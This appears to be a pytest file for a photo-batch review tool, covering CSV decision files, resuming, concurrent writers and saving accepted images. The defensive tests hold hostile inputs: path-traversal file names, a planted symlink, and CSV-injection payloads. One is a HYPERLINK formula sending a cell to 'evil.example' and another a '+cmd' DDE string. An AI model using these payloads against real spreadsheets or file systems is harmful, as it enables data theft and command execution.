"""Review: stepping, decisions in an atomic CSV, resuming, saving accepted outputs."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest

from topaz_nb.api.client import TopazClient
from topaz_nb.batch import review as review_module
from topaz_nb.batch.gallery import Gallery
from topaz_nb.batch.review import HEADER, Review
from topaz_nb.errors import NotSaved, TopazError
from topaz_nb.storage import Transfer
from topaz_nb.view.widget import CompareView


@pytest.fixture
def parts(sandbox, tmp_path):
    with TopazClient(api_key=sandbox.api_key, base_url=sandbox.base_url) as client, \
            Transfer(tmp_path / "cache") as transfer:
        yield client, transfer


@pytest.fixture
def batch(sandbox, parts, make_image):
    client, transfer = parts
    names = ["one.jpg", "two.jpg", "three.jpg", "four.jpg"]
    ids = [sandbox.add_job(make_image((40 + i, 30)), make_image((80 + 2 * i, 60)),
                           filename=name, model=f"Model {i}")
           for i, name in enumerate(names)]
    gallery = Gallery(ids, client=client, transfer=transfer, max_workers=2)
    yield gallery
    gallery.cancel()
    gallery.wait(10)


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_decisions_are_written_at_once_one_row_per_process(batch, tmp_path):
    path = tmp_path / "review.csv"
    review = batch.review(path=str(path))
    ids = batch.process_ids
    assert review.current == ids[0]
    review.decide(ids[0], "accept")
    assert path.read_text(encoding="utf-8").splitlines()[0] == ",".join(HEADER)
    (row,) = _rows(path)
    assert row["process_id"] == ids[0] and row["decision"] == "accept"
    assert row["model"] == "Model 0" and row["filename"] == "one.jpg" and row["note"] == ""
    when = dt.datetime.fromisoformat(row["reviewed_at"])
    assert when.utcoffset() == dt.timedelta(0)
    review.decide(ids[1], "flag", note="halo, left edge")
    review.decide(ids[0], "reject", note="too soft")  # replaces the earlier decision
    rows = _rows(path)
    assert [(r["process_id"], r["decision"], r["note"]) for r in rows] == [
        (ids[0], "reject", "too soft"), (ids[1], "flag", "halo, left edge")]
    assert review.decisions == {ids[0]: "reject", ids[1]: "flag"}
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
    review.close()


def test_invalid_decision_lists_the_allowed_ones(batch, tmp_path):
    review = batch.review(path=str(tmp_path / "r.csv"))
    with pytest.raises(ValueError, match="accept, reject, flag"):
        review.decide(batch.process_ids[0], "maybe")
    assert not (tmp_path / "r.csv").exists()
    review.close()


def test_a_failed_write_leaves_the_file_whole(batch, tmp_path, monkeypatch):
    path = tmp_path / "r.csv"
    review = batch.review(path=str(path))
    review.decide(batch.process_ids[0], "accept")
    before = path.read_bytes()

    def broken_replace(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(review_module.os, "replace", broken_replace)
    with pytest.raises(TopazError, match="not recorded"):
        review.decide(batch.process_ids[1], "reject")
    assert path.read_bytes() == before
    assert review.decisions == {batch.process_ids[0]: "accept"}
    assert [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
    review.close()


def test_reopening_resumes_at_the_first_undecided_and_keeps_other_rows(batch, tmp_path):
    path = tmp_path / "r.csv"
    ids = batch.process_ids
    other = "11111111-2222-4333-8444-555555555555"
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(HEADER)
        writer.writerow([other, "flag", "from another batch", "X", "x.jpg", "2026-11-01T00:00:00+00:00"])
    first = batch.review(path=str(path))
    first.decide(ids[0], "accept")
    first.decide(ids[1], "reject")
    first.close()
    again = Review(batch, path=str(path))
    assert again.current == ids[2] and again.position == 2
    assert again.decisions == {ids[0]: "accept", ids[1]: "reject"}
    again.widget()
    items = again._strip.items
    assert [i["decision"] for i in items] == ["accept", "reject", "", ""]
    assert again._strip.current == 2
    again.decide(ids[2], "flag")
    assert {r["process_id"] for r in _rows(path)} == {other, ids[0], ids[1], ids[2]}
    again.close()


def test_a_file_that_is_not_a_review_is_refused(batch, tmp_path):
    path = tmp_path / "notes.csv"
    path.write_text("name,score\na,1\n", encoding="utf-8")
    with pytest.raises(TopazError, match="not a review file"):
        batch.review(path=str(path))


def test_stepping_shows_each_comparison_and_prefetches_the_next(batch, tmp_path, sandbox):
    from conftest import wait_until

    review = batch.review(path=str(tmp_path / "r.csv"))
    box = review.widget()
    header, stage = box.children[0], box.children[1]
    ids = batch.process_ids
    assert "1 of 4" in header.value
    # The file's name comes with the card's status, fetched in the background.
    wait_until(lambda: "one.jpg" in header.value, "the header to name the file")
    assert isinstance(stage.children[0], CompareView)
    # The next one is loading (or loaded) while the first is on screen.
    assert ids[1] in review._loading
    review._loading[ids[1]].result(10)
    batch.wait(10)
    sandbox.clear_requests()
    assert review.next() == ids[1]
    # Already fetched: stepping sends nothing for it (only the one after is prefetched).
    assert not [r for r in sandbox.requests if ids[1] in r.path]
    assert "2 of 4" in header.value and review._strip.current == 1
    assert review.previous() == ids[0]
    assert review.previous() == ids[0]  # stays on the first
    review.go(3)
    assert review.next() == ids[3]  # stays on the last
    assert set(review._loading) <= {ids[2], ids[3]}  # only the neighbours are kept
    review.close()


def test_the_process_on_screen_is_fetched_before_the_rest_of_the_batch(
        batch, tmp_path, sandbox):
    from topaz_nb.batch.decisions import ReviewFile

    ids = batch.process_ids
    path = tmp_path / "r.csv"
    ReviewFile(path).record(ids[0], decision="accept")
    ReviewFile(path).record(ids[1], decision="reject")
    sandbox.clear_requests()
    review = batch.review(path=str(path))
    try:
        assert review.current == ids[2]  # the first undecided
        review._loading[ids[2]].result(30)
        batch.wait(30)
        storage = [r.path for r in sandbox.requests if r.server == "storage"]
        others = [i for i, p in enumerate(storage) if ids[2] not in p]
        assert others and len(storage[:others[0]]) >= 4  # both objects' HEAD and GET
        assert all(ids[2] in p for p in storage[:others[0]])
    finally:
        review.close()


def test_keys_from_the_front_end_decide_and_step(batch, tmp_path):
    path = tmp_path / "r.csv"
    review = batch.review(path=str(path))
    review.widget()
    ids = batch.process_ids
    strip = review._strip
    strip._handle_custom_msg({"event": "note", "index": 0, "note": "crisp"}, [])
    strip._handle_custom_msg({"event": "key", "key": "a", "index": 0}, [])
    strip._handle_custom_msg({"event": "key", "key": "j", "index": 0}, [])
    assert review.current == ids[1]
    strip._handle_custom_msg({"event": "key", "key": "r", "index": 1}, [])
    strip._handle_custom_msg({"event": "key", "key": "k", "index": 1}, [])
    strip._handle_custom_msg({"event": "go", "index": 3}, [])
    strip._handle_custom_msg({"event": "key", "key": "f"}, [])  # no index: the current one
    assert review.decisions == {ids[0]: "accept", ids[1]: "reject", ids[3]: "flag"}
    assert review.note(ids[0]) == "crisp" and review.note(ids[1]) == ""
    assert [i["note"] for i in strip.items] == ["crisp", "", "", ""]
    # Editing the note of a decided process rewrites its row.
    strip._handle_custom_msg({"event": "note", "index": 3, "note": "check the sky"}, [])
    assert {r["process_id"]: r["note"] for r in _rows(path)}[ids[3]] == "check the sky"
    review.close()


def test_thumbnails_reach_the_strip_as_messages(batch, tmp_path):
    review = batch.review(path=str(tmp_path / "r.csv"))
    review.widget()
    sent = []
    review._strip.send = lambda content, buffers=None: sent.append(content)
    batch.wait()
    review._strip._handle_custom_msg({"event": "ready"}, [])
    thumbs = sent[-1]["thumbs"]
    assert sorted(thumbs) == ["0", "1", "2", "3"]
    assert all(uri.startswith("data:image/webp;base64,") for uri in thumbs.values())
    review.close()


def test_save_accepted_keeps_names_safely_inside_the_directory(sandbox, parts, make_image,
                                                               tmp_path):
    client, transfer = parts
    names = ["../../escape.jpg", "/etc/passwd", "photo.jpg", "photo.jpg", "..", "a\\b\\c.png"]
    ids = [sandbox.add_job(make_image(), make_image((128, 96)), filename=name) for name in names]
    rejected = sandbox.add_job(make_image(), make_image((128, 96)), filename="nope.jpg")
    gallery = Gallery(ids + [rejected], client=client, transfer=transfer)
    review = gallery.review(path=str(tmp_path / "r.csv"))
    for pid in ids:
        review.decide(pid, "accept")
    review.decide(rejected, "reject")
    out = tmp_path / "accepted"
    saved = review.save_accepted(out)
    assert sorted(p.name for p in saved) == sorted(
        ["escape.png", "passwd.png", "photo.png", "photo-2.png", f"{ids[4]}.png", "c.png"])
    assert all(p.parent == out.resolve() and p.stat().st_size > 0 for p in saved)
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in saved)
    assert not (tmp_path / "escape.png").exists()
    # Saving again never overwrites: the names get the next suffix.
    again = review.save_accepted(out)
    assert "photo-3.png" in {p.name for p in again}
    review.close()
    gallery.wait(10)


def _accepted_review(sandbox, parts, make_image, tmp_path, names):
    client, transfer = parts
    ids = [sandbox.add_job(make_image(), make_image((128, 96)), filename=name) for name in names]
    gallery = Gallery(ids, client=client, transfer=transfer)
    review = gallery.review(path=str(tmp_path / "r.csv"))
    for pid in ids:
        review.decide(pid, "accept")
    gallery.wait(30)  # every card has its status, so its file name, before saving
    return gallery, review, ids


@pytest.mark.parametrize("planted", [".photo.png.part", "photo.png"],
                         ids=["the old temporary name", "the final name"])
def test_save_accepted_never_follows_a_link_planted_at_a_predictable_name(
        sandbox, parts, make_image, tmp_path, planted):
    gallery, review, ids = _accepted_review(sandbox, parts, make_image, tmp_path,
                                            ["photo.jpg", "other.jpg"])
    out = tmp_path / "accepted"
    out.mkdir()
    victim = tmp_path / "victim"
    victim.write_bytes(b"must stay as it is")
    (out / planted).symlink_to(victim)
    saved = review.save_accepted(out)
    assert victim.read_bytes() == b"must stay as it is"
    taken = planted == "photo.png"
    assert [p.name for p in saved] == ["photo-2.png" if taken else "photo.png", "other.png"]
    for pid, path in zip(ids, saved):
        assert not path.is_symlink()
        assert path.read_bytes() == gallery.load(pid).files()["output"].read_bytes()
    assert (out / planted).is_symlink()
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [planted, *(p.name for p in saved)])  # no temporary file left
    review.close()
    gallery.wait(10)


def test_save_accepted_shortens_a_long_non_ascii_name_keeping_the_extension(
        sandbox, parts, make_image, tmp_path):
    import os

    long = "é" * 196 + ".jpg"  # 200 characters, 396 bytes in UTF-8
    gallery, review, ids = _accepted_review(sandbox, parts, make_image, tmp_path,
                                            [long, "after.jpg"])
    out = tmp_path / "accepted"
    saved = review.save_accepted(out)
    first, after = saved
    raw = os.fsencode(first.name)
    assert len(raw) <= os.pathconf(out, "PC_NAME_MAX") and first.name.endswith(".png")
    assert long.startswith(first.name[:-len(".png")]) and len(first.name) > 100
    raw.decode("utf-8")  # no character cut in half
    assert first.read_bytes() == gallery.load(ids[0]).files()["output"].read_bytes()
    assert after.name == "after.png" and after.is_file()
    review.close()
    gallery.wait(10)


def test_save_accepted_reports_a_bad_file_in_one_line_and_saves_the_rest(
        sandbox, parts, make_image, tmp_path):
    client, transfer = parts
    # The first accepted output can no longer be downloaded (storage answers 404).
    ids = [sandbox.add_job(make_image(), make_image((128, 96)), filename=name)
           for name in ("gone.jpg", "two.jpg", "three.jpg")]
    sandbox.inject("status", server="storage", path=ids[0], code=404, times=None)
    gallery = Gallery(ids, client=client, transfer=transfer)
    review = gallery.review(path=str(tmp_path / "r.csv"))
    for pid in ids:
        review.decide(pid, "accept")
    gallery.wait(30)
    out = tmp_path / "accepted"
    (out / "two.png").mkdir(parents=True)  # a name taken by a directory: the next one
    with pytest.raises(NotSaved) as caught:
        review.save_accepted(out)
    err = caught.value
    assert [p.name for p in err.saved] == ["two-2.png", "three.png"]
    for pid, path in zip(ids[1:], err.saved):
        assert path.read_bytes() == gallery.load(pid).files()["output"].read_bytes()
    assert [what for what, _where, _error in err.failures] == [f"the output of {ids[0]}"]
    lines = str(err).splitlines()
    assert len(lines) == 2, lines
    assert lines[0].startswith(f"Could not save the output of {ids[0]}: ")
    assert "404" in lines[0]
    assert lines[1] == "The other 2 files were saved: the error's .saved lists them."
    assert sorted(p.name for p in out.iterdir()) == ["three.png", "two-2.png", "two.png"]
    review.close()
    gallery.wait(10)


def test_fidelity_order_puts_the_least_faithful_first(sandbox, parts, tmp_path):
    from PIL import Image, ImageDraw

    client, transfer = parts
    source = Image.linear_gradient("L").convert("RGB").resize((64, 48))
    faithful = source.resize((128, 96), Image.Resampling.LANCZOS)
    invented = faithful.copy()
    ImageDraw.Draw(invented).rectangle((40, 30, 80, 60), fill=(255, 0, 255))
    ids = [sandbox.add_job(source, out, filename=name, input_format="png")
           for name, out in (("a.png", faithful), ("b.png", invented), ("c.png", faithful))]
    gallery = Gallery(ids, client=client, transfer=transfer)
    review = gallery.review(path=str(tmp_path / "r.csv"), order="fidelity")
    assert review.ids[0] == ids[1] and sorted(review.ids) == sorted(ids)
    assert review.current == ids[1]
    with pytest.raises(ValueError, match="gallery, fidelity"):
        gallery.review(path=str(tmp_path / "r.csv"), order="random")
    review.close()
    gallery.wait(10)

def test_comparisons_the_review_lets_go_of_are_closed(batch, parts, tmp_path):
    from topaz_nb.storage import budget

    cache = parts[1].cache_dir
    review = batch.review(path=str(tmp_path / "r.csv"))
    ids = batch.process_ids
    first = review.comparison()
    assert first is not None and not first.closed
    review.go(3)  # far away: the first and its neighbour are dropped
    assert review.comparison() is not None
    assert first.closed
    batch.wait(10)
    loaded = [f.result(10) for f in review._loading.values()]
    in_use = budget.usage(cache).in_use
    assert set(review._loading) <= {ids[2], ids[3]} and in_use == 2 * len(loaded)
    review.close()
    assert all(c.closed for c in loaded)
    assert budget.usage(cache).in_use == 0


def test_the_mode_chosen_carries_over_to_every_process(batch, tmp_path):
    review = batch.review(path=str(tmp_path / "r.csv"))
    box = review.widget()
    stage, strip = box.children[1], review._strip
    first = stage.children[0]
    assert first.mode == "swipe"
    first.mode = "blend"  # as the view's front end syncs it
    review.next()
    second = stage.children[0]
    assert second is not first and second.mode == "blend"
    # A key names the mode on screen, which may not have reached the trait yet.
    strip._handle_custom_msg({"event": "key", "key": "j", "mode": "difference"}, [])
    assert stage.children[0].mode == "difference"
    # Going back shows the kept view in the mode chosen last, as does a click.
    strip._handle_custom_msg({"event": "key", "key": "k"}, [])
    assert stage.children[0] is second and second.mode == "difference"
    strip._handle_custom_msg({"event": "go", "index": 0, "mode": "grid"}, [])
    assert stage.children[0].mode == "grid"  # loaded again: only neighbours are kept
    # A view no longer on screen is not followed; a mode that is none is ignored.
    second.mode = "toggle"
    strip._handle_custom_msg({"event": "key", "key": "j", "mode": "<b>none</b>"}, [])
    assert stage.children[0] is second and second.mode == "grid"
    review.close()


# -- the review file: other writers, other rows, spreadsheets -------------------------

def test_two_reviews_of_one_file_keep_each_others_decisions(batch, tmp_path):
    """A re-run cell, or ``gallery.review(p)`` twice: both reviews opened the file
    before either decided, and neither undoes the other."""
    path = tmp_path / "r.csv"
    ids = batch.process_ids
    first, second = batch.review(path=str(path)), batch.review(path=str(path))
    first.decide(ids[0], "accept")
    second.decide(ids[1], "reject")
    first.decide(ids[2], "flag")
    assert {r["process_id"]: r["decision"] for r in _rows(path)} == {
        ids[0]: "accept", ids[1]: "reject", ids[2]: "flag"}
    # Each sees the other's decisions, on the strip too.
    assert first.decisions == second.decisions == {ids[0]: "accept", ids[1]: "reject",
                                                   ids[2]: "flag"}
    second.decide(ids[0], "reject")  # the same process twice: the later decision wins
    assert first.decisions[ids[0]] == "reject"
    first.close()
    second.close()


KERNEL = r"""
import os, sys
from topaz_nb.api.client import TopazClient
from topaz_nb.batch.gallery import Gallery
from topaz_nb.storage import Transfer

base_url, cache, path, *ids = sys.argv[1:]
with TopazClient(api_key=os.environ["SANDBOX_KEY"], base_url=base_url) as client, \
        Transfer(cache) as transfer:
    gallery = Gallery(ids, client=client, transfer=transfer, max_workers=1)
    review = gallery.review(path=path)
    print("ready", review.position, flush=True)
    for line in sys.stdin:
        pid, decision = line.split()
        review.decide(pid, decision, note="from " + os.path.basename(cache))
        print(" ".join(sorted(f"{p[:8]}={d}" for p, d in review.decisions.items())), flush=True)
    review.close()
    gallery.cancel()
    gallery.wait(10)
"""


def test_two_kernels_reviewing_into_one_file_keep_every_decision(batch, sandbox, tmp_path):
    import os
    import subprocess
    import sys

    path = tmp_path / "r.csv"
    ids = batch.process_ids
    env = {**os.environ, "SANDBOX_KEY": sandbox.api_key}
    kernels = [subprocess.Popen([sys.executable, "-c", KERNEL, sandbox.base_url,
                                 str(tmp_path / name), str(path), *ids],
                                stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=env)
               for name in ("one", "two")]
    try:
        # Both have opened the (empty) review before either decides.
        assert [k.stdout.readline().split() for k in kernels] == [["ready", "0"]] * 2
        seen = []
        for i, decision in enumerate(["accept", "reject", "flag", "accept"]):
            kernel = kernels[i % 2]
            kernel.stdin.write(f"{ids[i]} {decision}\n")
            kernel.stdin.flush()
            seen.append(kernel.stdout.readline().strip())
    finally:
        for k in kernels:
            k.stdin.close()
            k.wait(60)
            k.stdout.close()
    assert [k.returncode for k in kernels] == [0, 0]
    rows = {r["process_id"]: (r["decision"], r["note"]) for r in _rows(path)}
    assert rows == {ids[0]: ("accept", "from one"), ids[1]: ("reject", "from two"),
                    ids[2]: ("flag", "from one"), ids[3]: ("accept", "from two")}
    # Each kernel's review saw the other's decisions as it went.
    assert seen[-1] == " ".join(sorted(f"{p[:8]}={rows[p][0]}" for p in ids))
    assert seen[2].count("=") == 3


def test_a_review_file_saved_by_a_spreadsheet_is_resumed_and_kept_in_its_shape(batch, tmp_path):
    """Excel's "CSV UTF-8": a BOM, CRLF line ends, a column added by hand,
    an upper-case process ID and ``Accept`` capitalised."""
    path = tmp_path / "r.csv"
    ids = batch.process_ids
    kept = (f"{ids[0].upper()},Accept,sharp,Model 0,one.jpg,2026-11-01 10:00,ann\r\n"
            f"{ids[1]},reject,,Model 1,two.jpg,2026-11-01 10:01,bob\r\n")
    head = "\ufeffprocess_id,decision,note,model,filename,reviewed_at,reviewer\r\n"
    path.write_bytes((head + kept).encode("utf-8"))
    review = Review(batch, path=str(path))
    assert review.decisions == {ids[0]: "accept", ids[1]: "reject"}
    assert review.position == 2 and review.note(ids[0]) == "sharp"
    review.decide(ids[2], "flag")
    data = path.read_bytes().decode("utf-8")
    assert data.startswith(head + kept)  # the BOM, the header and their rows as they were
    added = data[len(head + kept):]
    assert added.endswith(",\r\n") and added.count("\r\n") == 1  # reviewer left blank, CRLF
    assert added.startswith(f"{ids[2]},flag,,Model 2,three.jpg,")
    review.close()


def test_rows_the_review_does_not_know_are_kept_byte_for_byte(batch, tmp_path):
    path = tmp_path / "r.csv"
    ids = batch.process_ids
    other = "11111111-2222-4333-8444-555555555555"
    unknown = [
        f"{other},maybe,another tool's decision,X,x.jpg,2026-11-01T00:00:00+00:00\r\n",
        "\r\n",
        f"{other.upper().replace('1', '9')},Accept,capitalised,X,y.jpg,\r\n",
        ',,"a row with no ID,\r\nover two lines",,,\r\n',
    ]
    path.write_bytes((",".join(HEADER) + "\r\n" + "".join(unknown)).encode("utf-8"))
    review = Review(batch, path=str(path))
    review.decide(ids[0], "accept")
    review.decide(ids[1], "reject")
    data = path.read_bytes().decode("utf-8")
    assert data.startswith(",".join(HEADER) + "\r\n" + "".join(unknown))
    assert [r["process_id"] for r in _rows(path)[-2:]] == [ids[0], ids[1]]
    review.close()


def test_a_note_kept_without_a_decision_survives_stepping(batch, tmp_path):
    path = tmp_path / "r.csv"
    ids = batch.process_ids
    review = batch.review(path=str(path))
    review.widget()
    strip = review._strip
    assert review.current == ids[0] and review.decisions == {}
    # What the front end sends on Enter in the note field, then j and k.
    strip._handle_custom_msg({"event": "note", "index": 0, "note": "soft corners"}, [])
    strip._handle_custom_msg({"event": "key", "key": "j", "index": 0}, [])
    strip._handle_custom_msg({"event": "key", "key": "k", "index": 1}, [])
    assert review.current == ids[0] and strip.current == 0
    assert strip.items[0]["note"] == "soft corners"  # what the field shows
    assert [(r["process_id"], r["decision"], r["note"]) for r in _rows(path)] == [
        (ids[0], "", "soft corners")]
    # A note reaching the kernel after it moved on still goes to the process
    # it was typed on.
    strip._handle_custom_msg({"event": "key", "key": "j", "index": 0}, [])
    strip._handle_custom_msg({"event": "note", "index": 0, "note": "soft corners, left"}, [])
    assert review.current == ids[1] and review.note(ids[1]) == ""
    assert review.note(ids[0]) == "soft corners, left"
    strip._handle_custom_msg({"event": "key", "key": "k", "index": 1}, [])
    # Still undecided: a review opened again starts there, with the note.
    again = Review(batch, path=str(path))
    assert again.position == 0 and again.note(ids[0]) == "soft corners, left"
    assert again.decisions == {}
    again.close()
    # Deciding later keeps it; from Python, a note needs no decision either.
    strip._handle_custom_msg({"event": "key", "key": "a", "index": 0}, [])
    review.set_note(ids[3], "look again")
    review.decide(ids[3], "flag")
    assert {r["process_id"]: (r["decision"], r["note"]) for r in _rows(path)} == {
        ids[0]: ("accept", "soft corners, left"), ids[3]: ("flag", "look again")}
    review.close()


def test_names_and_notes_that_look_like_formulas_are_written_as_text(sandbox, parts,
                                                                      make_image, tmp_path):
    """CSV injection: what the server sends and what was typed opens in a
    spreadsheet as text, never as a formula, and the review reads it back."""
    client, transfer = parts
    jobs = [('=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0"),
            ("-2+3.jpg", "@SUM(1+1)"), ("'quoted.jpg", "Standard V2")]
    ids = [sandbox.add_job(make_image(), make_image((128, 96)), filename=f, model=m)
           for f, m in jobs]
    gallery = Gallery(ids, client=client, transfer=transfer)
    path = tmp_path / "r.csv"
    review = gallery.review(path=str(path))
    notes = ["=1+1", "\t=2+2", "-1 stop"]
    for pid, note in zip(ids, notes):
        review.decide(pid, "accept", note=note)
    rows = {r["process_id"]: r for r in _rows(path)}
    for pid, (filename, model), note in zip(ids, jobs, notes):
        assert rows[pid]["filename"] == "'" + filename
        assert rows[pid]["note"] == "'" + note
        assert rows[pid]["model"] == ("'" + model if model[0] in "+@" else model)
    review.close()
    again = gallery.review(path=str(path))
    assert [again.note(pid) for pid in ids] == notes
    from topaz_nb.batch.decisions import ReviewFile

    entries = ReviewFile(path).entries()
    assert [(entries[p].filename, entries[p].model) for p in ids] == jobs
    again.close()
    gallery.wait(10)
